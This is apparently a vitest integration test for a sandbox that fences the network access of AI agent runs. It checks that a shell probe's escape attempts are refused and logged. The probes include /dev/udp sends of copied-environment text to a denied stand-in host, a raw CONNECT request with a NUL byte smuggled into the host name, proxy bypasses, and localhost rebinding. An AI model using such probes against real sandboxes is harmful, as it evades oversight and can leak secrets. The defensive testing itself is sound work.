// The egress fence as root through the default agent pool (docs/trust.md, docs/trust.md): real
// legs against the real local service, with listeners on several loopback addresses standing in for
// the internet (127.0.0.2 allowed, 127.0.0.3 not), another leg's port and the service's own. The
// agent is a shell program that tries each way out, as an attacker would, and writes what answered.
import { createSocket } from 'node:dgram';
import { chmodSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, afterEach, describe, expect, it } from 'vitest';
import { DEFAULT_POOL } from '../../../src/dispatch/boundary/user.js';
import { lookupsReachResolver, readLookupFiles } from '../../../src/dispatch/fence/name-lookups.js';
import { runDispatch } from '../../../src/dispatch/lifecycle/dispatch.js';
import { renderHtml } from '../../../src/dispatch/report/html.js';
import { renderJunit } from '../../../src/dispatch/report/junit.js';
import { renderMarkdown } from '../../../src/dispatch/report/markdown.js';
import { buildRunReport } from '../../../src/dispatch/report/model.js';
import { logPath, runPaths } from '../../../src/dispatch/state/folder.js';
import { EMPTY_WORKFLOW } from '../../../src/dispatch/workflow/policy.js';
import { startHarness, type Harness } from '../../support/engine.js';

const isRoot = process.getuid?.() === 0;
const COMMIT = 'git -c user.name=agent -c user.email=agent@example.invalid commit -q --allow-empty -m "$SVC_CARD_KEY: tried"';

async function listen(host: string, text: string): Promise<{ server: Server; port: number; hits: () => number }> {
  let hits = 0;
  const server = createServer((_req, res) => {
    hits++;
    res.end(text);
  });
  await new Promise<void>((ok) => server.listen(0, host, ok));
  return { server, port: (server.address() as AddressInfo).port, hits: () => hits };
}

/** A shell agent in a folder every user may read, writing `name=answer` lines to `out`. */
function prober(out: string, probes: Record<string, string>): string {
  const dir = mkdtempSync(join(tmpdir(), 'svc-fence-agent-'));
  chmodSync(dir, 0o755);
  const lines = Object.entries(probes).map(
    ([name, cmd]) => `printf '%s=%s\\n' ${name} "$( (${cmd}) 2>/dev/null | tr -d '\\n\\000' | head -c 200 || true)" >> ${out}`,
  );
  const file = join(dir, 'agent.sh');
  writeFileSync(file, `${lines.join('\n')}\n${COMMIT}\n`, { mode: 0o755 });
  return `bash ${file}`;
}

describe.runIf(isRoot)('a fenced leg, as root through the pool', () => {
  let allowed: Awaited<ReturnType<typeof listen>>;
  let denied: Awaited<ReturnType<typeof listen>>;
  let otherLeg: Awaited<ReturnType<typeof listen>>;
  let v6: Awaited<ReturnType<typeof listen>>;
  // 127.0.0.4 is listed on one port only: the other is refused, directly as through the proxy.
  let onePort: Awaited<ReturnType<typeof listen>>;
  let otherPort: Awaited<ReturnType<typeof listen>>;
  const udp = createSocket('udp4');
  const udpAllowed = createSocket('udp4');
  let udpPort = 0;
  let udpAllowedPort = 0;
  let udpGot = 0;
  let h: Harness;

  beforeAll(async () => {
    allowed = await listen('127.0.0.2', 'allowed-answer');
    denied = await listen('127.0.0.3', 'the-copied-env');
    otherLeg = await listen('127.0.0.1', 'another-legs-server');
    v6 = await listen('::1', 'over-ipv6');
    onePort = await listen('127.0.0.4', 'the-listed-port');
    otherPort = await listen('127.0.0.4', 'another-port');
    for (const u of [udp, udpAllowed]) u.on('message', () => udpGot++);
    await new Promise<void>((ok) => udp.bind(0, '127.0.0.3', ok));
    await new Promise<void>((ok) => udpAllowed.bind(0, '127.0.0.2', ok));
    udpPort = (udp.address() as AddressInfo).port;
    udpAllowedPort = (udpAllowed.address() as AddressInfo).port;
  });
  afterAll(async () => {
    for (const l of [allowed, denied, otherLeg, v6, onePort, otherPort]) l.server.close();
    udp.close();
    udpAllowed.close();
  });
  beforeEach(async () => {
    h = await startHarness();
  });
  afterEach(async () => {
    await h.close();
  });

  const gate = () => {
    const dir = mkdtempSync(join(tmpdir(), 'svc-fence-gate-'));
    chmodSync(dir, 0o777);
    return join(dir, 'out.txt');
  };
  const answers = (file: string) =>
    Object.fromEntries(
      readFileSync(file, 'utf8')
        .trim()
        .split('\n')
        .map((l) => [l.slice(0, l.indexOf('=')), l.slice(l.indexOf('=') + 1)]),
    );
  const svcPort = () => new URL(h.svc.url).port;
  const curl = (args: string) => `curl -s --max-time 5 ${args}`;

  it('reaches an allowed address directly and through the proxy, and nothing else either way; each refusal is logged and an event', async () => {
    const out = gate();
    const agent = prober(out, {
      // NO_PROXY holds the listed addresses (and names): the kernel carries those bytes (docs/trust.md).
      noProxy: 'echo "$NO_PROXY"',
      allowed: curl(`http://127.0.0.2:${allowed.port}/`),
      allowedProxy: curl(`--noproxy '' -x "$HTTP_PROXY" http://127.0.0.2:${allowed.port}/`),
      allowedDirect: curl(`--noproxy '*' http://127.0.0.2:${allowed.port}/`),
      onePort: curl(`--noproxy '*' http://127.0.0.4:${onePort.port}/`),
      otherPort: curl(`--noproxy '*' http://127.0.0.4:${otherPort.port}/`),
      otherPortProxy: curl(`--noproxy '' -x "$HTTP_PROXY" http://127.0.0.4:${otherPort.port}/`),
      udpAllowed: `echo the-copied-env > /dev/udp/127.0.0.2/${udpAllowedPort}; sleep 0.2; echo sent`,
      deniedDirect: curl(`--noproxy '*' http://127.0.0.3:${denied.port}/`),
      deniedProxy: curl(`-x "$HTTP_PROXY" http://127.0.0.3:${denied.port}/`),
      deniedConnect: curl(`-p -x "$HTTP_PROXY" http://127.0.0.3:${denied.port}/`),
      service: curl(`--noproxy '*' http://127.0.0.1:${svcPort()}/api/v1/whoami`),
      serviceProxy: curl(`--noproxy '' -x "$HTTP_PROXY" http://127.0.0.1:${svcPort()}/api/v1/whoami`),
      otherLeg: curl(`--noproxy '*' http://127.0.0.1:${otherLeg.port}/`),
      ipv6: curl(`-6 --noproxy '*' 'http://[::1]:${v6.port}/'`),
      udp: `echo the-copied-env > /dev/udp/127.0.0.3/${udpPort}; sleep 0.2; echo sent`,
      dns: 'getent hosts not-listed.example || echo nxdomain',
      // A name with a NUL in it, which a naive suffix match would take for one under *.allowed.test.
      nul: `exec 3<>/dev/tcp/127.0.0.1/\${HTTP_PROXY##*:}; printf 'CONNECT host\\0.allowed.test:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' >&3; head -c 40 <&3`,
      // localhost is allowed by name, but its answer is loopback, which is not.
      rebound: curl(`--noproxy '' -x "$HTTP_PROXY" http://localhost:${otherLeg.port}/`),
    });
    const key = h.item('task', 'Tries every way out');
    const s = await runDispatch(
      h.opts({
        keys: [key],
        agentUser: DEFAULT_POOL,
        sendLogs: true,
        agent: { agentCmd: agent },
        network: { mode: 'fenced', allow: ['127.0.0.2', '*.allowed.test', 'localhost', `127.0.0.4:${onePort.port}`] },
      }),
      h.deps(),
    );
    expect(s.legs[0]?.disposition).toBe('implemented');
    const a = answers(out);
    // The listed names too, where this machine's lookups all reach the leg's resolver (name-lookups.ts).
    expect(a.noProxy).toBe(lookupsReachResolver(readLookupFiles()) ? '127.0.0.2,127.0.0.4,.allowed.test,localhost' : '127.0.0.2,127.0.0.4');
    for (const name of ['allowed', 'allowedProxy', 'allowedDirect']) expect(a[name], name).toBe('allowed-answer');
    expect(allowed.hits()).toBe(3);
    expect(a.onePort).toBe('the-listed-port');
    expect(a.otherPortProxy).toContain('svc fence');
    expect(otherPort.hits()).toBe(0);
    expect(a.udpAllowed).toBe('sent');
    for (const name of ['otherPort', 'deniedDirect', 'service', 'otherLeg', 'ipv6']) expect(a[name], name).toBe('');
    expect(a.deniedProxy).toContain('svc fence');
    expect(a.serviceProxy).toContain('svc fence');
    expect(a.rebound).toContain('svc fence');
    expect(a.deniedConnect).toBe('');
    expect(a.nul).toContain('400');
    expect(a.dns).toBe('nxdomain');
    expect(a.udp).toBe('sent');
    expect(denied.hits()).toBe(0);
    expect(otherLeg.hits()).toBe(0);
    expect(v6.hits()).toBe(0);
    expect(udpGot).toBe(0);

    const log = readFileSync(logPath(runPaths(h.stateDir, s.runId!), key), 'utf8');
    const expected = [
      `[svc] network: refused 127.0.0.3:${denied.port} (proxy: not on the allowlist)`,
      `[svc] network: refused 127.0.0.1:${svcPort()} (proxy: not on the allowlist)`,
      `[svc] network: refused localhost:${otherLeg.port} (proxy: resolves to 127.0.0.1, an inside address off the allowlist)`,
      '[svc] network: refused not-listed.example (dns: not on the allowlist)',
      '[svc] network: refused host\\x00.allowed.test',
      `[svc] network: refused 127.0.0.4:${otherPort.port} (proxy: not on the allowlist)`,
      `[svc] network: refused 127.0.0.4:${otherPort.port} (kernel: tcp, not through the proxy)`,
      `[svc] network: refused 127.0.0.2:${udpAllowedPort} (kernel: udp, not through the proxy)`,
      `[svc] network: refused 127.0.0.3:${denied.port} (kernel: tcp, not through the proxy)`,
      `[svc] network: refused 127.0.0.1:${svcPort()} (kernel: tcp, not through the proxy)`,
      `[svc] network: refused 127.0.0.1:${otherLeg.port} (kernel: tcp, not through the proxy)`,
      `[svc] network: refused 127.0.0.3:${udpPort} (kernel: udp, not through the proxy)`,
      `[svc] network: refused [::1]:${v6.port} (kernel: tcp over IPv6, not through the proxy)`,
    ];
    for (const line of expected) expect(log).toContain(line);
    expect(log).not.toContain(`refused 127.0.0.2:${allowed.port}`);
    const events = readFileSync(runPaths(h.stateDir, s.runId!).journal, 'utf8')
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l))
      .filter((r) => r.t === 'ev' && typeof r.ev.body === 'string' && r.ev.body.includes('network: refused'))
      .map((r) => r.ev);
    for (const line of expected) expect(events.some((e) => e.workItemKey === key && e.body.includes(line))).toBe(true);
    const refused = s.legs[0]!.network!;
    expect(refused.mode).toBe('fenced');
    expect(refused.refused.length).toBeGreaterThanOrEqual(expected.length);

    // The report lists them, in every format, the NUL made visible.
    const report = await buildRunReport(h.stateDir, s.runId!, { secrets: [] });
    expect(report.legs[0]!.network!.refused).toContainEqual({ host: 'host\\x00.allowed.test', port: 443, how: 'proxy: malformed request', count: 1 });
    const junit = renderJunit([report]);
    const markdown = renderMarkdown([report]);
    const html = renderHtml([report]);
    for (const line of expected.map((l) => l.slice('[svc] '.length))) {
      expect(junit).toContain(line.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;'));
      expect(markdown).toContain(line);
      expect(html).toContain(line.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;'));
    }
    expect(junit + markdown + html).not.toContain('\0');
  });

  it('setup runs before the fence, open; verify runs inside it', async () => {
    const out = gate();
    const agent = prober(out, { agent: curl(`--noproxy '*' http://127.0.0.3:${denied.port}/`) });
    const key = h.item('task', 'Setup reaches out, the check does not');
    const before = denied.hits();
    const s = await runDispatch(
      h.opts({
        keys: [key],
        agentUser: DEFAULT_POOL,
        agent: { agentCmd: agent },
        network: { mode: 'fenced', allow: [] },
        workflow: {
          ...EMPTY_WORKFLOW,
          timeouts: { ...EMPTY_WORKFLOW.timeouts },
          setup: [`curl -s --max-time 5 http://127.0.0.3:${denied.port}/ > /dev/null`],
          verify: `! curl -s --max-time 5 --noproxy '*' http://127.0.0.3:${denied.port}/`,
        },
      }),
      h.deps(),
    );
    expect(s.legs[0]).toMatchObject({ disposition: 'implemented', check: { status: 'passed' } });
    expect(answers(out).agent).toBe('');
    expect(denied.hits() - before).toBe(1);
  });

  it('with none nothing answers, not even through the proxy', async () => {
    const out = gate();
    const agent = prober(out, {
      allowed: curl(`http://127.0.0.2:${allowed.port}/`),
      direct: curl(`--noproxy '*' http://127.0.0.2:${allowed.port}/`),
      service: curl(`--noproxy '*' http://127.0.0.1:${svcPort()}/`),
      proxyVar: 'echo "${HTTP_PROXY:-unset}"',
    });
    const key = h.item('task', 'No network at all');
    const before = allowed.hits();
    const s = await runDispatch(
      h.opts({ keys: [key], agentUser: DEFAULT_POOL, agent: { agentCmd: agent }, network: { mode: 'none', allow: ['127.0.0.2'] } }),
      h.deps(),
    );
    expect(s.legs[0]?.disposition).toBe('implemented');
    expect(answers(out)).toEqual({ allowed: '', direct: '', service: '', proxyVar: 'unset' });
    expect(allowed.hits()).toBe(before);
    expect(s.legs[0]!.network!.refused.map((r) => r.port)).toContain(allowed.port);
  });

  it("as svc's own user: a namespace per program, whose proxy socket svc serves itself; verify inside it too", async () => {
    const out = gate();
    const agent = prober(out, {
      allowed: curl(`http://127.0.0.2:${allowed.port}/`),
      deniedProxy: curl(`-x "$HTTP_PROXY" http://127.0.0.3:${denied.port}/`),
      deniedDirect: curl(`--noproxy '*' http://127.0.0.3:${denied.port}/`),
      service: curl(`--noproxy '*' http://127.0.0.1:${svcPort()}/`),
      dns: 'getent hosts not-listed.example || echo nxdomain',
      interfaces: "tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' ' | tr '\\n' ,",
      // The agent holds no socket past stdin/stdout/stderr: not the launcher's channel to svc, nor
      // one of its own to the launcher.
      sockets: 'for f in /proc/$$/fd/*; do [ "${f##*/}" -gt 2 ] && readlink "$f"; done | grep -c socket; echo "${NODE_CHANNEL_FD:-no channel}"',
      // Who holds the proxy's listening socket in the namespace (127.0.0.1:3128, LISTEN): svc, no relay.
      holders: `ino=$(awk '$2 == "0100007F:0C38" && $4 == "0A" {print $10}' /proc/net/tcp); for p in /proc/[0-9]*; do ls -l $p/fd 2>/dev/null | grep -q "socket:\\[$ino\\]" && printf '%s,' "\${p#/proc/}"; done`,
    });
    const key = h.item('task', 'Fenced in a namespace');
    const before = denied.hits();
    const s = await runDispatch(
      h.opts({
        keys: [key],
        agentUser: null,
        agent: { agentCmd: agent },
        network: { mode: 'fenced', allow: ['127.0.0.2'] },
        workflow: {
          ...EMPTY_WORKFLOW,
          timeouts: { ...EMPTY_WORKFLOW.timeouts },
          verify: `! curl -s --max-time 5 --noproxy '*' http://127.0.0.3:${denied.port}/ && curl -s --max-time 5 http://127.0.0.2:${allowed.port}/`,
        },
      }),
      h.deps(),
    );
    expect(s.legs[0], readFileSync(logPath(runPaths(h.stateDir, s.runId!), key), 'utf8')).toMatchObject({
      disposition: 'implemented',
      check: { status: 'passed' },
    });
    const a = answers(out);
    expect(a).toMatchObject({
      allowed: 'allowed-answer',
      deniedDirect: '',
      service: '',
      dns: 'nxdomain',
      interfaces: 'lo,',
      holders: `${process.pid},`,
      sockets: '0no channel',
    });
    expect(a.deniedProxy).toContain('svc fence');
    expect(denied.hits()).toBe(before);
    const log = readFileSync(logPath(runPaths(h.stateDir, s.runId!), key), 'utf8');
    expect(log).toContain(`[svc] network: refused 127.0.0.3:${denied.port} (proxy: not on the allowlist)`);
    expect(s.legs[0]!.network).toMatchObject({ mode: 'fenced', refused: [{ host: '127.0.0.3', port: denied.port }] });
  });

  it("as svc's own user with none: a namespace with nothing in it", async () => {
    const out = gate();
    const agent = prober(out, { allowed: curl(`http://127.0.0.2:${allowed.port}/`), proxyVar: 'echo "${HTTP_PROXY:-unset}"' });
    const key = h.item('task', 'No network, own user');
    const before = allowed.hits();
    const s = await runDispatch(h.opts({ keys: [key], agentUser: null, agent: { agentCmd: agent }, network: { mode: 'none', allow: [] } }), h.deps());
    expect(s.legs[0]?.disposition).toBe('implemented');
    expect(answers(out)).toEqual({ allowed: '', proxyVar: 'unset' });
    expect(allowed.hits()).toBe(before);
  });
});
